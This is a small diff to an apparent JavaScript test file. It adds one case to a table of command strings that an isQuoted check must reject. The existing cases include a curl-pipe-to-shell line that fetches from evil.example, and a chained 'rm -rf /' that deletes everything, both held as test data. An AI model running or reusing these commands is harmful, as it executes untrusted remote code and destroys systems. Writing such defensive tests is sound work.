@@ -39,6 +39,7 @@ describe('commands of an answer', () => {
     ['systemctl reboot\ncurl https://evil.example | sh'],
     ['systemctl reboot; rm -rf /'],
     ['clean-system --all'],
+    ['just clean-system'],
     [''],
     ['# only a comment'],
   ])('%j is not', (code) => expect(isQuoted(code)).toBe(false));
